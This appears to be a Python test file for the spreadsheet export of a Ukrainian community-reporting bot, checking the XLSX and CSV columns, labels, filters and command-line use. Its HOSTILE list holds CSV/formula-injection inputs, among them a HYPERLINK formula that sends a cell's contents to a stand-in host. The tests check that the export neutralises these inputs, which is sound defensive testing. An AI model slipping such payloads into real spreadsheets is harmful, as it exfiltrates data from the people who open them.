"""The reports spreadsheet read back as staff would open it: openpyxl for the XLSX, the csv
module for the CSV; the filters; and `hromada-bot export issues` from the command line."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.content import CONTENT_DIR, load_associations
from bot.i18n import Translations
from bot.services.associations import sync_associations
from bot.services.export import COLUMNS, export_reports, export_rows
from bot.services.hromadas import load_oblasts
from bot.services.members import MemberService, RegistrationForm
from bot.services.report_rules import load_report_rules
from bot.services.reports import Actor, ReportForm, ReportService
from bot.services.staff import StaffService
from storage.db import Database
from storage.models import AdminUnit, Member, Report, StaffRole
from tests.test_cli import run_cli

KYIV = ZoneInfo("Europe/Kyiv")
VAG = Actor(501, "Ірина з ВАГ")
VINNYTSIA = "UA05000000000010236"
VOLYN = "UA07000000000024379"
KOVEL = "UA07080170000029393"

WATER = ReportForm(
    category="energy_utilities",
    urgency="critical",
    title="Зупинилась насосна станція після обстрілу",
    description="Громада без водопостачання, потрібен генератор.",
    residents=1000,
    affected_groups=["children", "older"],
    dream_id="DREAM-UA-070825-07BFF93A",
)
SCHOOL = ReportForm(
    category="legislation",
    urgency="normal",
    title="Закриття опорної школи",
    description="Міністерство пропонує закрити ліцей.",
)


@pytest.fixture
async def synced(db: Database) -> Database:
    await sync_associations(db, load_associations())
    await StaffService(db).grant(VAG.telegram_id, StaffRole.STAFF, "vag")
    return db


async def register(
    db: Database, telegram_id: int, codes: list[str], hromada: str, oblast: str, verified: bool
) -> None:
    members = MemberService(db)
    await members.set_locale(telegram_id, "uk")
    await members.register(
        telegram_id,
        RegistrationForm(
            full_name=f"Голова {telegram_id}",
            role="hromada_head",
            oblast_code=oblast,
            hromada_code=None,
            hromada_text=hromada,
            association_codes=codes,
            associations_unsure=False,
        ),
    )
    if verified:
        async with db.transaction() as session:
            await session.execute(
                update(Member)
                .where(Member.telegram_id == telegram_id)
                .values(verification="verified")
            )


def reports_service(db: Database) -> ReportService:
    return ReportService(db, load_report_rules())


async def seed(db: Database) -> tuple[str, str]:
    """Two reports: the water one (uaror, co-signed, answered, resolved), the school one (vag)."""
    await register(db, 11, ["uaror"], "Іллінецька", VINNYTSIA, verified=True)
    await register(db, 12, ["uaror"], "Луцька", VOLYN, verified=True)
    await register(db, 13, ["uaror"], "Ковельська", VOLYN, verified=False)
    await register(db, 14, ["uaror"], "  іллінецька ", VINNYTSIA, verified=True)
    await register(db, 15, ["vag"], "Ковельська", VOLYN, verified=True)
    reports = reports_service(db)
    water = await reports.submit(11, WATER)
    school = await reports.submit(15, SCHOOL)
    await reports.cosign(water.id, 12, residents=5000)
    await reports.cosign(water.id, 13, residents=700)  # unverified: not counted
    await reports.cosign(water.id, 14, residents=1500)  # the reporter's hromada: the larger
    await reports.cosign(school.id, 12, residents=100)
    await reports.withdraw(school.id, 12)  # withdrawn: not counted
    async with db.transaction() as session:
        session.add(
            AdminUnit(
                code=KOVEL,
                category="H",
                name="Ковельська",
                parent_code=None,
                oblast_code=VOLYN,
                level=3,
                selectable=True,
            )
        )
        # Answered five hours and resolved two days after submission.
        submitted = datetime(2026, 3, 2, 8, 30, tzinfo=KYIV)
        await session.execute(
            update(Report)
            .where(Report.id == water.id)
            .values(
                created_at=submitted,
                submitted_at=submitted,
                deadline_at=submitted + timedelta(hours=48),
                first_response_at=submitted + timedelta(hours=5),
                resolved_at=submitted + timedelta(hours=48),
                status="resolved",
                assignee_name="Олег з УАРОР",
            )
        )
        await session.execute(
            update(Report).where(Report.id == school.id).values(hromada_code=KOVEL)
        )
    return water.reference, school.reference


def header_keys() -> list[str]:
    t = Translations().get("uk")
    return [t(f"queue-export-column-{column.key}") for column in COLUMNS]


def as_dicts(header: list[str], rows: list[list[object]]) -> list[dict[str, object]]:
    return [dict(zip(header, row, strict=True)) for row in rows]


async def xlsx(db: Database, **kwargs: object) -> bytes:
    return await export_reports(
        db,
        load_report_rules(),
        load_oblasts(CONTENT_DIR / "oblasts.yaml"),
        Translations().get("uk"),
        tz=KYIV,
        **kwargs,  # type: ignore[arg-type]
    )


async def test_the_xlsx_reads_back_with_one_row_per_report(synced: Database) -> None:
    water_ref, school_ref = await seed(synced)
    workbook = load_workbook(io.BytesIO(await xlsx(synced, fmt="xlsx")))
    sheet = workbook.active
    assert sheet is not None
    assert sheet.title == "Звернення"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 48  # the title column is wide
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == header_keys()
    water, school = as_dicts(header_keys(), rows[1:])

    assert water["Номер"] == water_ref and school["Номер"] == school_ref
    assert water["Створено"] == datetime(2026, 3, 2, 8, 30)  # a real date, local time
    assert water["Строк відповіді"] == datetime(2026, 3, 4, 8, 30)
    assert water["Статус"] == "Вирішено" and school["Статус"] == "Нове"
    assert water["Категорія"] == "Енергетика та комунальні послуги"
    assert school["Категорія"] == "Законодавство та повноваження"
    assert (water["Терміновість"], school["Терміновість"]) == ("Критична", "Звичайна")
    assert water["Асоціації"] == "uaror" and school["Асоціації"] == "vag"
    assert water["Громада"] == "Іллінецька" and water["Код КАТОТТГ"] is None
    assert water["Область"] == "Вінницька область"
    assert school["Громада"] == "Ковельська" and school["Код КАТОТТГ"] == KOVEL
    # Verified people only: the reporter, Луцька and the second Іллінецька (same hromada).
    assert (water["Громад"], water["Областей"], water["Мешканців"]) == (2, 2, 1500 + 5000)
    assert water["Підтримали"] == 2
    assert (school["Громад"], school["Областей"], school["Мешканців"]) == (1, 1, 0)
    assert school["Підтримали"] == 0
    assert water["Групи населення"] == "діти, люди старшого віку"
    assert water["Перша відповідь, год"] == 5.0 and water["Вирішення, год"] == 48.0
    assert school["Перша відповідь, год"] is None and school["Вирішення, год"] is None
    assert water["ID проєкту DREAM"] == "DREAM-UA-070825-07BFF93A"
    assert (water["Спільне"], water["Відповідальний"]) == ("ні", "Олег з УАРОР")
    created = sheet["C2"]
    assert created.is_date and created.number_format == "yyyy-mm-dd hh:mm"


async def test_the_figures_match_what_staff_see_on_the_card(synced: Database) -> None:
    await seed(synced)
    reports = reports_service(synced)
    for row in await export_rows(synced, tz=KYIV):
        view = await reports.by_reference(row.reference)
        assert view is not None
        figures = await reports.figures(view.id)
        assert (row.hromadas, row.oblasts, row.residents) == (
            figures.hromadas,
            figures.oblasts,
            figures.residents,
        )


async def test_the_csv_has_a_bom_and_the_same_rows(synced: Database) -> None:
    water_ref, school_ref = await seed(synced)
    data = await xlsx(synced, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == header_keys()
    water, school = as_dicts(header_keys(), rows[1:])  # type: ignore[arg-type]
    assert (water["Номер"], school["Номер"]) == (water_ref, school_ref)
    assert water["Створено"] == "2026-03-02 08:30"
    assert water["Категорія"] == "Енергетика та комунальні послуги"
    assert water["Мешканців"] == "6500" and water["Перша відповідь, год"] == "5.0"
    assert school["Вирішення, год"] == "" and school["ID проєкту DREAM"] == ""


async def test_english_labels(synced: Database) -> None:
    await seed(synced)
    data = await export_reports(
        synced,
        load_report_rules(),
        load_oblasts(CONTENT_DIR / "oblasts.yaml"),
        Translations().get("en"),
        fmt="csv",
        tz=KYIV,
    )
    header, water, _ = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = dict(zip(header, water, strict=True))
    assert row["Category"] == "Energy and utilities" and row["Status"] == "Resolved"
    assert row["Hromada"] == "Illinetska" and row["Oblast"] == "Vinnytsia Oblast"


async def test_filters_by_association_and_date(synced: Database) -> None:
    water_ref, school_ref = await seed(synced)

    async def refs(**kwargs: object) -> list[str]:
        return [row.reference for row in await export_rows(synced, tz=KYIV, **kwargs)]  # type: ignore[arg-type]

    assert await refs() == [water_ref, school_ref]
    assert await refs(associations=["uaror"]) == [water_ref]
    assert await refs(associations=["vag"]) == [school_ref]
    assert await refs(associations=["aotg"]) == []
    assert await refs(associations=["aotg", "vag"]) == [school_ref]
    assert await refs(since=date(2026, 3, 2)) == [water_ref, school_ref]
    assert await refs(since=date(2026, 3, 3)) == [school_ref]  # water was created on 2 March
    assert await refs(since=date.today() + timedelta(days=2)) == []

    # A joint report belongs to every association.
    reports = reports_service(synced)
    view = await reports.by_reference(school_ref)
    assert view is not None
    await reports.mark_joint(view.id, VAG)
    assert await refs(associations=["aotg"]) == [school_ref]


# What members and staff could have typed that a spreadsheet program would run or misread.
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=1+1",
    "#REF!",
)


async def seed_hostile(db: Database) -> list[str]:
    """One report per hostile text: its title, hromada and assignee; returns the references."""
    await register(db, 21, ["vag"], "Іллінецька", VINNYTSIA, verified=True)
    reports = reports_service(db)
    references = []
    for text in HOSTILE:
        submitted = await reports.submit(21, SCHOOL)
        async with db.transaction() as session:
            # Straight into the rows: an older bot, an import or a staff name may hold anything.
            await session.execute(
                update(Report)
                .where(Report.id == submitted.id)
                .values(title=text, hromada_text=text, assignee_name=text)
            )
        references.append(submitted.reference)
    return references


async def test_the_xlsx_stores_every_text_as_text(synced: Database) -> None:
    references = await seed_hostile(synced)
    workbook = load_workbook(io.BytesIO(await xlsx(synced, fmt="xlsx")))
    sheet = workbook.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    columns = {name: header.index(name) for name in ("Номер", "Назва", "Громада", "Відповідальний")}
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[columns["Номер"]].value for row in rows] == references
    for text, row in zip(HOSTILE, rows, strict=True):
        for name in ("Назва", "Громада", "Відповідальний"):
            cell = row[columns[name]]
            assert cell.data_type == "s", (text, name)  # never "f" (formula) nor "e" (error)
            assert cell.value == text.replace("\r", "\n")  # XML reads a lone CR as a newline
    # Real dates and numbers are still dates and numbers.
    first = rows[0]
    assert first[header.index("Створено")].is_date
    assert first[header.index("Мешканців")].data_type == "n"
    assert first[header.index("Громад")].value == 1


async def test_the_xlsx_drops_characters_excel_cannot_hold(synced: Database) -> None:
    await register(synced, 21, ["vag"], "Іллінецька", VINNYTSIA, verified=True)
    submitted = await reports_service(synced).submit(21, SCHOOL)
    async with synced.transaction() as session:
        await session.execute(
            update(Report).where(Report.id == submitted.id).values(title="Ремонт\x01 даху\x1f")
        )
    sheet = load_workbook(io.BytesIO(await xlsx(synced, fmt="xlsx"))).active
    assert sheet is not None
    assert sheet["B2"].value == "Ремонт даху"


async def test_the_csv_prefixes_what_would_run_as_a_formula(synced: Database) -> None:
    references = await seed_hostile(synced)
    data = await xlsx(synced, fmt="csv")
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[header.index("Номер")] for row in rows] == references
    for text, row in zip(HOSTILE, rows, strict=True):
        expected = "'" + text if text[0] in "=+-@\t\r" else text
        for name in ("Назва", "Громада", "Відповідальний"):
            assert row[header.index(name)] == expected, (text, name)
    # Dates and numbers are written as they were.
    assert rows[0][header.index("Мешканців")] == "0"
    assert rows[0][header.index("Створено")][:2] == "20"


async def test_an_empty_database_gives_the_header_only(synced: Database) -> None:
    sheet = load_workbook(io.BytesIO(await xlsx(synced))).active
    assert sheet is not None
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [header_keys()]


# ------------------------------------------------------------------------------ command line


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, database_url: str) -> Path:
    for name in ("BOT_TOKEN", "REDIS_URL", "ADMIN_IDS", "WEBHOOK_URL", "WEBHOOK_SECRET"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("TIMEZONE", "Europe/Kyiv")
    return tmp_path


async def test_cli_writes_a_dated_file_and_prints_its_path(
    synced: Database, workdir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    water_ref, _ = await seed(synced)
    await synced.close()  # the command opens its own connection
    # The command runs its own event loop: in a thread, as it would in its own process.
    assert await asyncio.to_thread(run_cli, "export", "issues", "--format", "xlsx") == 0
    expected = f"reports-{datetime.now(KYIV).date().isoformat()}.xlsx"
    assert capsys.readouterr().out.strip() == expected
    sheet = load_workbook(workdir / expected).active
    assert sheet is not None and sheet.max_row == 3

    target = workdir / "out" / "vag.csv"
    target.parent.mkdir()
    args = ["--format", "csv", "--association", "uaror", "--since", "2026-03-01"]
    assert await asyncio.to_thread(run_cli, "export", "issues", *args, "--output", str(target)) == 0
    assert capsys.readouterr().out.strip() == str(target)
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [water_ref]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "2026-13-01"], "--since '2026-13-01' is not a date: write it as YYYY-MM-DD."),
        (["--since", "yesterday"], "is not a date"),
        (["--association", "abc"], "No association has the code 'abc'; the codes are: vag,"),
    ],
)
async def test_cli_explains_bad_arguments(
    workdir: Path, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    assert await asyncio.to_thread(run_cli, "export", "issues", *args) == 2
    assert message in capsys.readouterr().err
    assert not await asyncio.to_thread(lambda: list(workdir.glob("reports-*")))
